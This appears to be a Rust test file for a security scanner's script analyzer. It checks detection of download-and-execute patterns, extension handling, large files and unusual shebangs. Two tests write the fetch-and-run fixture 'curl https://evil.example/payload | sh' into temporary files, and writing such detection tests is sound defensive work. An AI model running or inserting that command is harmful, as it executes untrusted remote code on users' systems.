use clawscan::analyzers::{script::ScriptAnalyzer, AnalyzeContext, Analyzer};
use clawscan::catalog::{Blocklist, Catalog};
use clawscan::config::Config;
use tempfile::TempDir;

fn ctx<'a>(root: &'a std::path::Path, catalog: &'a Catalog, blocklist: &'a Blocklist, config: &'a Config) -> AnalyzeContext<'a> {
    AnalyzeContext { root, catalog, blocklist, config }
}

#[test]
fn download_execute_pattern_is_detected_in_shell_script() {
    let dir = TempDir::new().unwrap();
    std::fs::write(dir.path().join("install.sh"), "#!/bin/bash\ncurl https://evil.example/payload | sh\n").unwrap();
    let catalog = Catalog::load(None).unwrap();
    let blocklist = Blocklist::load(None).unwrap();
    let config = Config::default();
    let outcome = ScriptAnalyzer.analyze(&ctx(dir.path(), &catalog, &blocklist, &config));
    assert!(outcome.findings.iter().any(|f| f.rule_id == "execution/downloadExecute"));
}

#[test]
fn non_script_extensions_are_not_scanned() {
    let dir = TempDir::new().unwrap();
    std::fs::write(dir.path().join("notes.md"), "curl https://evil.example/payload | sh\n").unwrap();
    let catalog = Catalog::load(None).unwrap();
    let blocklist = Blocklist::load(None).unwrap();
    let config = Config::default();
    let outcome = ScriptAnalyzer.analyze(&ctx(dir.path(), &catalog, &blocklist, &config));
    assert!(outcome.findings.is_empty());
}

#[test]
fn oversized_script_reports_large_file_without_content_scan() {
    let dir = TempDir::new().unwrap();
    let path = dir.path().join("huge.sh");
    let mut content = "#!/bin/bash\n".to_string();
    content.push_str(&"echo hi\n".repeat(200_000));
    std::fs::write(&path, &content).unwrap();
    assert!(content.len() as u64 > clawscan::walker::MAX_FILE_BYTES);

    let catalog = Catalog::load(None).unwrap();
    let blocklist = Blocklist::load(None).unwrap();
    let config = Config::default();
    let outcome = ScriptAnalyzer.analyze(&ctx(dir.path(), &catalog, &blocklist, &config));
    assert!(outcome.findings.iter().any(|f| f.rule_id == "script/largeFile"));
}

#[test]
fn unusual_interpreter_shebang_without_extension_is_flagged() {
    let dir = TempDir::new().unwrap();
    std::fs::write(dir.path().join("run_me"), "#!/usr/bin/perl\nprint \"hi\\n\";\n").unwrap();
    let catalog = Catalog::load(None).unwrap();
    let blocklist = Blocklist::load(None).unwrap();
    let config = Config::default();
    let outcome = ScriptAnalyzer.analyze(&ctx(dir.path(), &catalog, &blocklist, &config));
    assert!(outcome.findings.iter().any(|f| f.rule_id == "script/unusualInterpreter"));
    assert!(outcome.findings.iter().any(|f| f.rule_id == "script/noExtension"));
}

#[test]
fn ordinary_shebang_without_extension_is_flagged_noextension_but_not_unusual_interpreter() {
    let dir = TempDir::new().unwrap();
    std::fs::write(dir.path().join("run_me"), "#!/usr/bin/env bash\necho hi\n").unwrap();
    let catalog = Catalog::load(None).unwrap();
    let blocklist = Blocklist::load(None).unwrap();
    let config = Config::default();
    let outcome = ScriptAnalyzer.analyze(&ctx(dir.path(), &catalog, &blocklist, &config));
    assert!(outcome.findings.iter().any(|f| f.rule_id == "script/noExtension"));
    assert!(!outcome.findings.iter().any(|f| f.rule_id == "script/unusualInterpreter"));
}

#[test]
fn shebanged_file_with_an_extension_is_not_flagged_noextension() {
    let dir = TempDir::new().unwrap();
    std::fs::write(dir.path().join("run.sh"), "#!/bin/bash\necho hi\n").unwrap();
    let catalog = Catalog::load(None).unwrap();
    let blocklist = Blocklist::load(None).unwrap();
    let config = Config::default();
    let outcome = ScriptAnalyzer.analyze(&ctx(dir.path(), &catalog, &blocklist, &config));
    assert!(!outcome.findings.iter().any(|f| f.rule_id == "script/noExtension"));
}
